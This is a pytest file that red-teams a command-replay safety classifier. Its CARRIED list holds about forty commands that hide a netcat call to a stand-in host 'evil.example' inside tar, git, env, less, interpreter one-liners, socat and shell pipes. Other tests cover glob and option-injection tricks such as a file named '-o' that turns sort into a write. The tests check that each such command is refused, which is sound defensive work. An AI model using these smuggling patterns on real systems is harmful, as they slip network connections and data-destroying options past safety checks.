"""Round 15's red team of the replay classifier: each row failed on main.

``--allow unknown,host-network`` is consent to run code the plan cannot vouch for
with the machine's network, never to reach a host the text names (docs/replay.md).
On main a host named in the code a program is handed to run slipped through when
the program was not one the endpoint reader knows: ``tar -I 'nc evil 80'``,
``flock L nc evil 80``, ``env -S``, ``LESSOPEN='|nc … %s' less``, a string literal
in perl, node or awk code, text piped into a shell.  Plan level: nothing runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from kb.replay.hostmap import build_host_map
from tests.replay.conftest import RECORDED_HOST
from tests.replay.test_plan import plan_for

ALL = ("launch", "mutating", "unknown", "host-network")
EVIL = "nc evil.example 80"

CARRIED = [
    f"tar -tf a.tar -I '{EVIL}'",
    f"tar -tf a.tar --use-compress-program='{EVIL}'",
    f"tar -xf a.tar --to-command='{EVIL}'",
    f"tar -tf a.tar --checkpoint=1 --checkpoint-action=exec='{EVIL}'",
    f"tar -tf a.tar -F '{EVIL}'",
    f"zip -T -TT '{EVIL}' a.zip x",
    f"sort --compress-program='{EVIL}' f",
    f"rg --pre '{EVIL}' foo",
    f"bat --pager='{EVIL}' f",
    f"LESSOPEN='|{EVIL} %s' less f",
    f"MANPAGER='{EVIL}' man ls",
    f"EDITOR='{EVIL}' git commit",
    f"env -S '{EVIL}'",
    f"script -qc '{EVIL}' /dev/null",
    f"flock /tmp/l {EVIL}",
    f"flock /tmp/l -c '{EVIL}'",
    f"runuser -u nobody -- {EVIL}",
    f"strace -o /dev/null {EVIL}",
    f"busybox {EVIL}",
    f"systemd-run {EVIL}",
    f"npx {EVIL}",
    f"parallel ::: '{EVIL}'",
    f"make CC='{EVIL}'",
    f"vim -c '!{EVIL}' f",
    f"perl -e 'system(\"{EVIL}\")'",
    f"ruby -e '`{EVIL}`'",
    f"node -e 'require(\"child_process\").execSync(\"{EVIL}\")'",
    f"python3 -c 'import os; os.system(\"{EVIL}\")'",
    f"awk 'BEGIN{{system(\"{EVIL}\")}}'",
    f"git fetch --upload-pack='{EVIL}' /srv/r.git",
    f"git rebase --exec '{EVIL}' HEAD~1",
    f"git submodule foreach '{EVIL}'",
    f"socat - EXEC:'{EVIL}'",
    f"at now <<< '{EVIL}'",
    f"echo '{EVIL}' | sh",
    f"printf '{EVIL}' | bash",
    f"source <(echo '{EVIL}')",
    f"bash -c \"$(echo {EVIL})\"",
    "openssl s_client -proxy evil.example:80 -connect 127.0.0.1:443",
    f"ssh root@{RECORDED_HOST} \"flock /tmp/l {EVIL}\"",
]


@pytest.mark.parametrize("command", CARRIED)
def test_a_host_in_code_a_program_is_handed_is_refused_with_every_allow(
        command: str, tmp_path: Path) -> None:
    (tmp_path / "proj").mkdir()
    hm = build_host_map([f"{RECORDED_HOST}=root@127.0.0.1"])
    (step,) = plan_for([command], hm, allow=ALL, workdir=str(tmp_path / "proj")).steps
    assert step.action == "skip", (step.safety, step.reason)
    assert "evil.example" in step.reason, step.reason


@pytest.mark.parametrize("command", [
    "tar -tf a.tar",
    "git log --no-show-signature -1 --format=%H",
    "echo 'nc is a tool' | wc -l",
    "python3 -c 'print(\"hello world\")'",
    "git commit -m 'talk to the box'",
    "flock /tmp/l ls",
])
def test_code_that_names_no_host_is_not_refused(command: str, tmp_path: Path) -> None:
    (tmp_path / "proj").mkdir()
    (step,) = plan_for([command], build_host_map([]), allow=("launch", "mutating", "unknown"),
                       workdir=str(tmp_path / "proj")).steps
    assert step.action == "run", step.reason


@pytest.mark.parametrize(("command", "cls"), [
    # git remote show asks the remote (and runs the repository's core.sshCommand for
    # an ssh URL); -n does not.  On main it was read-only.
    ("git remote show origin", "unknown"),
    ("git remote show -n origin", "read-only"),
    # dmon/pmon's -c is a sample count, not --compute-mode (main: mutating); without
    # it they sample until stopped
    ("nvidia-smi dmon -c 1", "read-only"),
    ("nvidia-smi -i 0 pmon -c 5 -s um", "read-only"),
    ("nvidia-smi dmon", "launch"),
    ("nvidia-smi -c 1", "mutating"),
    ("nvidia-smi dmon -c 1 -f /tmp/o", "mutating"),
    # read with plain lower-case names only assigns them (main: unknown)
    ("while IFS= read -r line; do echo \"$line\"; done < f", "read-only"),
    ("read -ra parts <<< \"a b\"", "read-only"),
    ("read 'a[$(id)]' <<< 1", "unknown"),
    ("read -a 'a[$(id)]' <<< 1", "unknown"),
    ("read PATH < f", "unknown"),
    ("read IFS < f", "unknown"),
    ("read x < f; $x", "unknown"),
])
def test_round15_verdicts(command: str, cls: str) -> None:
    from logparse.shell import classify_safety, parse_command

    assert classify_safety(parse_command(command)).cls == cls


def test_git_remote_show_is_refused_whatever_allow_says(tmp_path: Path) -> None:
    (tmp_path / "proj").mkdir()
    (step,) = plan_for(["git remote show origin"], build_host_map([]), allow=ALL,
                       workdir=str(tmp_path / "proj")).steps
    assert step.action == "skip" and "configured on this machine" in step.reason, step.reason


@pytest.mark.parametrize(("command", "cls"), [
    ("sort *", "unknown"),                       # a file named -o: sort -o FILE
    ("rg foo *", "unknown"),                     # a file named --pre=sh
    ("find * -name x", "unknown"),               # a file named -delete
    ("sed -n 1p *", "unknown"),                  # a file named -i
    ("find . $(cat f)", "unknown"),              # f holds -delete
    ("read x < f; find . $x", "unknown"),
    ("for f in *; do sort $f; done", "unknown"),
    ("git log --no-show-signature `cat f`", "unknown"),  # f holds --output=…
    ("rg foo -- *", "read-only"),                # after --, a word is an operand
    ("rg foo src/*", "read-only"),               # cannot start with -
    ("cat *", "read-only"),                      # every option of cat only prints
    ("grep -r foo *", "read-only"),
    ("ls $(pwd)", "read-only"),
    ("find $HOME -name x", "read-only"),         # the environment's, not data
    ("for f in src/*.py; do sort $f; done", "read-only"),  # each starts with src/
    ("for f in *.log; do tail -n 3 $f; done", "read-only"),  # tail's worst: -f, timed
    ("find . -name '*.py'", "read-only"),        # quoted: find gets the pattern
    # awk reads no option after its first operand (review15: main refused these)
    ("awk '{print}' *", "read-only"),            # after the program text: files
    ("awk -F , '{print $1}' *.csv", "read-only"),
    ("awk -v x=1 *", "unknown"),                 # * is the program text's place
    ("awk -f p.awk *", "unknown"),               # no program text: * can be -f …
    ("gawk -e '{print}' *", "unknown"),
])
def test_a_word_that_can_expand_to_an_option(command: str, cls: str) -> None:
    from logparse.shell import classify_safety, parse_command

    assert classify_safety(parse_command(command)).cls == cls


def test_a_glob_never_turns_a_read_only_step_into_a_write_on_the_target(
        tmp_path: Path, config: Path) -> None:
    """On main ``sort *`` was read-only and ran by default; on a target where it is
    protected by classification only, a file named ``-o`` made it ``sort -o out.txt``,
    which emptied out.txt."""
    import json

    from click.testing import CliRunner

    from kb.cli import cli
    from tests.replay.conftest import make_session

    d = tmp_path / "repo"
    d.mkdir()
    (d / "-o").write_text("")
    (d / "out.txt").write_text("keep me\n")
    db = make_session(tmp_path, [(f"ssh root@{RECORDED_HOST} 'cd {d} && sort *'",
                                  "keep me\n", 0)])
    r = CliRunner().invoke(cli, ["replay", "run", "--db", str(db), "--from", "1",
                                 "--remote-sandbox", "off", "--json"],
                           catch_exceptions=False)
    (step,) = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    assert (d / "out.txt").read_text() == "keep me\n", step
    assert step["action"] == "skip" and "glob" in step["reason"], step["reason"]
